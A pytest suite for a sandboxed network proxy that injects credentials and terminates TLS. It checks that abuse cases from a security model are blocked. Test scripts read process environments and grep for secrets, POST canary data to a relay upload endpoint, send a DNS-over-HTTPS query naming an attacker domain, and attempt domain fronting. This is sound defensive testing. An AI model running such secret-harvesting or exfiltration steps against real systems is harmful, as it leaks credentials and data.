"""Per-request rules (issue 5): TLS termination with the sandbox's own CA,
credential injection that keeps the secret out of the sandbox, synthetic
responses, forwardURL -- and the attacks of docs/security-model.md against them
(ABUSE-1..6, TLS-4, TLS-5, TLS-10, TLS-11, DNS-11)."""
import hashlib
import json
import subprocess

import pytest


def _policy(tmp_path, allow, name="policy.json"):
    p = tmp_path / name
    p.write_text(json.dumps({"allow": allow}))
    return str(p)


@pytest.fixture
def secret(canary):
    return f"SECRET-{canary}"


@pytest.fixture
def rules_run(run_net, world, tmp_path):
    """run_net with a rule policy and the world's CA as --upstream-ca."""
    def go(allow, script, upstream_ca=True, extra_args=(), **kw):
        args = ["--policy", _policy(tmp_path, allow), *extra_args]
        if upstream_ca:
            args += ["--upstream-ca", world.ca]
        return run_net(args + ["--", "sh", "-c", script], **kw)
    return go


# Spliced (rule-less) hosts present the world's own certificate: trust both CAs.
BOTH = "cat /etc/airlock/ca-bundle.pem /workspace/ca.pem > /tmp/all.pem; "


def inject(secret, match=None):
    rule = {"transform": [{"headers": {"Authorization": f"Bearer {secret}"}}]}
    if match:
        rule["match"] = match
    return rule


def http_events(world, server="allowed"):
    return world.events(server, "http")


def headers_of(ev):
    return [h for h in ev.get("headers", [])]


# ---- ABUSE-2: injection works, and the secret is nowhere in the sandbox ----

def test_abuse2_injected_header_reaches_upstream_not_sandbox(rules_run, world, net, secret):
    script = (
        "curl -sS https://allowed.test/ok; echo; "
        "env; cat /proc/self/environ | tr '\\0' '\\n'; "
        # every readable file the sandbox can see outside the read-only runtime
        "grep -rl 'SECRET-' /etc /tmp /workspace /home /run /dev/shm 2>/dev/null; "
        "cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; true")
    r = rules_run({"allowed.test": [inject(secret)]}, script)
    assert "allowed-web" in r.out, (r.out, r.err)
    evs = http_events(world)
    assert len(evs) == 1, evs
    assert f"Authorization: Bearer {secret}" in headers_of(evs[0]), evs[0]
    assert secret not in r.out and secret not in r.err
    e = net.find(r.egress, layer="tls", verdict="allow", reason="rule_transform")
    assert e and e[0]["name"] == "allowed.test", r.egress


def test_abuse2_trust_is_automatic_for_curl_python_node_git(rules_run, world, secret):
    """SSL_CERT_FILE & co. point at the bundle with the sandbox CA: no flags needed."""
    script = (
        "curl -sS -o /dev/null -w 'curl=%{http_code}\\n' https://allowed.test/c; "
        "/usr/bin/python3 -c \"import urllib.request as u;"
        "print('py=%d' % u.urlopen('https://allowed.test/p').status)\"; "
        "node -e \"require('https').get('https://allowed.test/n',"
        "{agent:new (require('https').Agent)()},r=>{console.log('node='+r.statusCode)})"
        ".on('error',e=>console.log('node-err '+e.message))\" 2>&1 || true; "
        # git over HTTPS (through HTTPS_PROXY): TLS must verify; the world is no git
        # server, so git then complains about the protocol, not the certificate
        "git ls-remote https://allowed.test/r.git 2>&1 | head -3; true")
    r = rules_run({"allowed.test": [inject(secret)]}, script, timeout=60)
    assert "curl=200" in r.out and "py=200" in r.out, (r.out, r.err)
    # node's https ignores HTTPS_PROXY: it goes transparently, and trusts the CA as well
    assert "node=200" in r.out or "node-err" not in r.out, r.out
    paths = [e["path"] for e in http_events(world)]
    assert "/c" in paths and "/p" in paths, paths
    assert "certificate" not in r.out.lower(), r.out
    assert [p for p in paths if p.startswith("/r.git/info/refs")], paths


# ---- ABUSE-3: a reflecting endpoint does not hand the key over ----

def test_abuse3_reflected_secret_is_redacted(rules_run, world, net, secret):
    r = rules_run({"allowed.test": [inject(secret)]},
                  "curl -sS -D - --trace-ascii /tmp/trace https://allowed.test/echo-headers; "
                  "echo; echo TRACE; cat /tmp/trace")
    ev = http_events(world)
    assert ev and f"Authorization: Bearer {secret}" in headers_of(ev[0])
    stars = "*" * len(f"Bearer {secret}")      # same length: the framing stays valid
    assert f"Authorization: {stars}" in r.out, r.out         # the body, redacted in place
    assert f"X-Echo-Auth: {stars}" in r.out, r.out           # and the reflecting header
    assert secret not in r.out and secret not in r.err       # nor in curl's decrypted trace
    assert net.find(r.egress, layer="tls", reason="rule_transform")


# ---- ABUSE-4: injection scope ----

def test_abuse4_no_secret_to_other_hosts_or_plaintext(rules_run, world, net, secret):
    r = rules_run({"allowed.test": [inject(secret)], "*.wild.test": []},
                  BOTH + "curl -sS --cacert /tmp/all.pem https://relay.wild.test/echo-headers; echo; "
                  "curl -sS -o /dev/null -w 'plain=%{http_code}\\n' http://allowed.test/echo-headers")
    relay = [e for e in world.events(None, "http") if e["host"] == ["relay.wild.test"]]
    assert relay, world.events(None, "http")     # the spliced host was reached, without it
    for ev in world.events(None, "http"):
        assert secret not in json.dumps(ev), ev
    assert "plain=403" in r.out, r.out        # plaintext to a rule domain is refused
    assert net.find(r.egress, reason="plaintext_to_rule_domain"), r.egress
    assert secret not in r.out


# ---- ABUSE-5: client-supplied credentials; TRACE ----

def test_abuse5_client_header_replaced_and_trace_refused(rules_run, world, net, secret):
    r = rules_run({"allowed.test": [inject(secret)]},
                  "curl -sS -o /dev/null -H 'Authorization: Bearer attacker' "
                  "-H 'authorization: Bearer attacker2' https://allowed.test/echo-headers; "
                  "curl -sS -o /dev/null -w 'trace=%{http_code}\\n' -X TRACE https://allowed.test/")
    evs = http_events(world)
    assert len(evs) == 1, evs                          # TRACE never left
    auth = [h for h in headers_of(evs[0]) if h.lower().startswith("authorization:")]
    assert auth == [f"Authorization: Bearer {secret}"], auth
    assert "trace=405" in r.out, r.out
    assert net.find(r.egress, layer="tls", verdict="deny", reason="trace_refused"), r.egress


# ---- ABUSE-6: credentials across a redirect ----

def test_abuse6_redirect_to_other_host_carries_no_secret(rules_run, world, secret):
    r = rules_run({"allowed.test": [inject(secret, {"path": {"startsWith": "/goto"}})],
                   "*.wild.test": []},
                  BOTH + "curl -sS -L --cacert /tmp/all.pem "
                  "https://allowed.test/goto?to=https://relay.wild.test/echo-headers")
    first = [e for e in http_events(world) if e["path"].startswith("/goto")]
    assert first and f"Authorization: Bearer {secret}" in headers_of(first[0])
    second = [e for e in world.events(None, "http") if e["path"] == "/echo-headers"]
    assert second and second[0]["host"] == ["relay.wild.test"], second
    assert not [h for h in headers_of(second[0]) if h.lower().startswith("authorization")]
    assert secret not in r.out


# ---- ABUSE-1 and DNS-11: synthetic responses block without an upstream ----

def test_abuse1_relay_upload_blocked_by_response_rule(rules_run, world, net, canary):
    allow = {"relay.wild.test": [
        {"match": {"method": ["POST", "PUT"]},
         "response": {"statusCode": 403, "body": "uploads are off", "contentType": "text/plain",
                      "headers": {"X-Why": "policy"}}},
        {"match": {"path": {"exact": "/ok"}}, "transform": [{"headers": {"X-A": "1"}}]}]}
    r = rules_run(allow, f"curl -sS -i -X POST --data {canary} https://relay.wild.test/upload")
    assert "HTTP/1.1 403" in r.out and "uploads are off" in r.out and "X-Why: policy" in r.out
    assert canary not in json.dumps(world.events(None, "http"))
    assert net.find(r.egress, layer="tls", reason="rule_response")


def test_dns11_doh_on_allowed_host_answered_locally(rules_run, world, net, canary):
    allow = {"doh.wild.test": [{"match": {"path": {"startsWith": "/dns-query"}},
                                "response": {"statusCode": 403}}]}
    r = rules_run(allow, f"curl -sS -o /dev/null -w '%{{http_code}}' "
                         f"'https://doh.wild.test/dns-query?name={canary}.attacker.test'")
    assert r.out.strip().endswith("403"), r.out
    assert not [q for q in world.dns_queries() if canary in json.dumps(q)]
    assert canary not in json.dumps(world.events(None, "http"))


# ---- rule semantics ----

def test_rule_order_first_match_wins(rules_run, world):
    allow = {"allowed.test": [
        {"match": {"path": {"startsWith": "/a"}}, "response": {
            "statusCode": 201, "body": "first", "contentType": "text/plain"}},
        {"match": {"path": {"regex": "^/a/x$"}}, "response": {
            "statusCode": 202, "body": "shadowed", "contentType": "text/plain"}},
        {"match": {"method": ["GET"], "queryString": [{"key": {"exact": "k"},
                                                       "value": {"exact": "v w"}}]},
         "response": {"statusCode": 203, "body": "query", "contentType": "text/plain"}},
        {"match": {"headers": [{"key": {"exact": "x-mode"}, "value": {"regex": "^fa+st$"}}]},
         "response": {"statusCode": 206, "body": "header", "contentType": "text/plain"}}]}
    r = rules_run(allow,
                  "for u in /a/x '/q?k=v%20w' '/q?k=v'; do "
                  "curl -sS -w ' %{http_code}\\n' https://allowed.test$u; done; "
                  "curl -sS -w ' %{http_code}\\n' -H 'X-Mode: faaast' https://allowed.test/h")
    lines = [l.strip() for l in r.out.splitlines() if l.strip()]
    assert "first 201" in lines, lines            # the first rule, not the regex after it
    assert "query 203" in lines, lines
    assert "header 206" in lines, lines
    # '/q?k=v' matched nothing: passed unchanged to the upstream
    assert [e["path"] for e in http_events(world)] == ["/q?k=v"]


def test_non_matching_request_passes_unchanged(rules_run, world, net, secret):
    r = rules_run({"allowed.test": [inject(secret, {"path": {"exact": "/only"}})]},
                  "curl -sS -H 'X-Client: kept' https://allowed.test/other")
    ev = http_events(world)
    assert ev and ev[0]["path"] == "/other"
    assert "X-Client: kept" in headers_of(ev[0])
    assert not [h for h in headers_of(ev[0]) if h.lower().startswith("authorization")]
    assert ev[0]["host"] == ["allowed.test"]
    assert net.find(r.egress, layer="tls", verdict="allow", reason="passthrough")


def test_forward_url(rules_run, world, net):
    allow = {"allowed.test": [{"forwardURL": "https://wild.test/base/"}]}
    r = rules_run(allow, "curl -sS https://allowed.test/orig?x=1")
    evs = world.events(None, "http")
    assert len(evs) == 1, evs
    ev = evs[0]
    assert ev["path"] == "/base/orig?x=1" and ev["host"] == ["wild.test"], ev
    assert ev["sni"] == "wild.test"
    h = headers_of(ev)
    assert "X-Airlock-Original-Host: allowed.test" in h, h
    assert any(x.startswith("X-Airlock-Sandbox: ") for x in h), h
    assert "host=wild.test path=/base/orig?x=1" in r.out
    assert net.find(r.egress, layer="tls", reason="rule_forward")


# ---- TLS-4, TLS-5, TLS-10, TLS-11 ----

def test_tls4_domain_fronting_refused_under_termination(rules_run, world, net, canary):
    r = rules_run({"allowed.test": [{"match": {"path": {"exact": "/never"}},
                                     "response": {"statusCode": 200}}]},
                  f"curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host: denied.test' "
                  f"https://allowed.test/{canary}")
    assert r.out.strip().endswith("421"), r.out
    assert canary not in json.dumps(world.events(None, "http"))
    assert net.find(r.egress, layer="tls", verdict="deny", reason="host_mismatch")


def test_tls5_only_http1_is_offered(rules_run, world, secret):
    r = rules_run({"allowed.test": [inject(secret)]},
                  "curl -sS -v --http2 https://allowed.test/h2 2>&1 | grep -i -E 'ALPN|HTTP/'")
    assert "http/1.1" in r.out.lower(), r.out
    assert "HTTP/2 200" not in r.out and "h2" not in [w.strip(",") for w in
                                                      r.out.lower().split("accepted")[-1:]]
    assert [e["path"] for e in http_events(world)] == ["/h2"]


def test_tls10_upstream_impostor_gets_502_and_no_secret(rules_run, world, net, secret):
    """Without --upstream-ca the world's certificate chains to nothing we trust."""
    r = rules_run({"allowed.test": [inject(secret)]},
                  "curl -sS -o /dev/null -w '%{http_code}' https://allowed.test/echo-headers",
                  upstream_ca=False)
    assert r.out.strip().endswith("502"), r.out
    assert http_events(world) == []          # the request (and the secret) never left
    assert secret not in json.dumps(world.events(None, None))
    assert net.find(r.egress, layer="tls", verdict="deny",
                    reason="upstream_tls_verify_failed"), r.egress


def test_tls11_pinning_client_fails_cleanly_no_fallback(rules_run, world, net, secret):
    der = subprocess.run(["openssl", "x509", "-in", str(world.state / "server.pem"),
                          "-pubkey", "-noout"], capture_output=True, check=True).stdout
    spki = subprocess.run(["openssl", "pkey", "-pubin", "-outform", "der"], input=der,
                          capture_output=True, check=True).stdout
    import base64
    pin = "sha256//" + base64.b64encode(hashlib.sha256(spki).digest()).decode()
    r = rules_run({"allowed.test": [inject(secret)]},
                  f"curl -sS --pinnedpubkey '{pin}' https://allowed.test/pinned; echo rc=$?")
    assert "rc=90" in r.out, (r.out, r.err)     # CURLE_SSL_PINNEDPUBKEYNOTMATCH
    assert http_events(world) == []             # no silent splice to the real server
    assert net.find(r.egress, layer="tls", verdict="deny"), r.egress


# ---- policy-time validation, and the CA's shape ----

@pytest.mark.parametrize("rule,part", [
    ({"match": {"path": {"regex": "(("}}, "response": {"statusCode": 200}},
     "regex does not compile"),
    ({"transform": [{"headers": {"Host": "x.test"}}]}, "managed by the proxy"),
    ({"transform": [{"headers": {"Content-Length": "1"}}]}, "managed by the proxy"),
    ({"response": {"statusCode": 204, "body": "x", "contentType": "text/plain"}},
     "body is not allowed"),
    ({"forwardURL": "http://plain.test/"}, "https://"),
])
def test_bad_rule_rejected_at_policy_time(run_net, world, tmp_path, rule, part):
    r = run_net(["--policy", _policy(tmp_path, {"allowed.test": [rule]}), "--", "true"])
    assert r.returncode == 64, (r.returncode, r.err)
    assert part in r.err, r.err
    assert world.events(None, None) == [] or not world.events("allowed", "tcp")


def test_sandbox_ca_is_name_constrained_and_key_stays_out(rules_run, secret):
    r = rules_run({"allowed.test": [inject(secret)], "*.wild.test": []},
                  "openssl x509 -in /etc/airlock/ca.pem -noout -text; "
                  "ls -la /etc/airlock; ls /etc/airlock | grep -c key; true")
    assert "Permitted:" in r.out and "DNS:allowed.test" in r.out and "DNS:wild.test" in r.out
    assert "CA:TRUE, pathlen:0" in r.out
    assert "ca.pem" in r.out and "ca-bundle.pem" in r.out
    assert r.out.strip().splitlines()[-1] == "0", r.out     # no key file in the sandbox



CHUNKED_PY = r'''
import socket, ssl, sys
ctx = ssl.create_default_context(cafile="/etc/airlock/ca-bundle.pem")
def req(body):
    s = ctx.wrap_socket(socket.create_connection(("allowed.test", 443)),
                        server_hostname="allowed.test")
    s.sendall(b"POST /chunked HTTP/1.1\r\nHost: allowed.test\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n" + body)
    data = b""
    while True:
        c = s.recv(65536)
        if not c:
            break
        data += c
    return data.split(b"\r\n")[0].decode()
print("good", req(b"5\r\nhello\r\n0\r\n\r\n"))
print("bad", req(b"ZZ\r\nhello\r\n0\r\n\r\n"))
'''


def test_chunked_request_body_passed_with_strict_framing(rules_run, world, net, secret):
    r = rules_run({"allowed.test": [inject(secret)]},
                  "cat > /tmp/c.py <<'EOF'\n" + CHUNKED_PY + "EOF\npython3 /tmp/c.py")
    assert "good HTTP/1.1 200" in r.out, (r.out, r.err)
    assert "bad HTTP/1.1 400" in r.out, r.out
    # The head goes upstream before the body is read (bodies are streamed, not held);
    # a body whose framing breaks is cut there, and the sandbox gets 400.
    evs = [e for e in http_events(world) if e["path"] == "/chunked"]
    assert evs and "Transfer-Encoding: chunked" in headers_of(evs[0]), evs
    assert evs[0]["body"] == "hello", evs[0]
    assert net.find(r.egress, layer="tls", verdict="deny", reason="bad_chunked_body")


@pytest.fixture
def usr_image(tmp_path):
    """An --image root whose /usr is the host's (a bind mount, removed afterwards): enough
    for curl, with the image's own /etc (read-only in the sandbox, without /etc/airlock)."""
    root = tmp_path / "image"
    for d in ("usr", "etc", "tmp"):
        (root / d).mkdir(parents=True)
    for link in ("bin", "lib", "lib64", "sbin"):
        (root / link).symlink_to(f"usr/{link}")
    (root / "etc" / "passwd").write_text("root:x:0:0::/root:/bin/sh\nuser:x:1000:1000::/home/user:/bin/sh\n")
    subprocess.run(["mount", "--bind", "/usr", str(root / "usr")], check=True)
    try:
        yield root
    finally:
        subprocess.run(["umount", "-l", str(root / "usr")], check=False)


def test_image_root_gets_the_ca_too(rules_run, world, secret, usr_image):
    """An --image root's /etc is the image's, read-only: the CA goes to /run/airlock and
    the usual variables point there, so terminated domains work without flags."""
    script = ("echo SSL_CERT_FILE=$SSL_CERT_FILE; ls /etc/airlock 2>&1 | head -1; "
              "grep -c 'BEGIN CERTIFICATE' /run/airlock/ca.pem; "
              "curl -sS https://allowed.test/img; echo")
    r = rules_run({"allowed.test": [inject(secret)]},
                  script, files=False, extra_args=["--image", str(usr_image)])
    assert "SSL_CERT_FILE=/run/airlock/ca-bundle.pem" in r.out, (r.out, r.err)
    assert "No such file" in r.out, r.out  # the image's /etc was not touched
    assert "\n1\n" in r.out, r.out  # one certificate: the sandbox's CA
    assert "allowed-web" in r.out, (r.out, r.err)
    evs = http_events(world)
    assert len(evs) == 1 and f"Authorization: Bearer {secret}" in headers_of(evs[0]), evs
    assert secret not in r.out
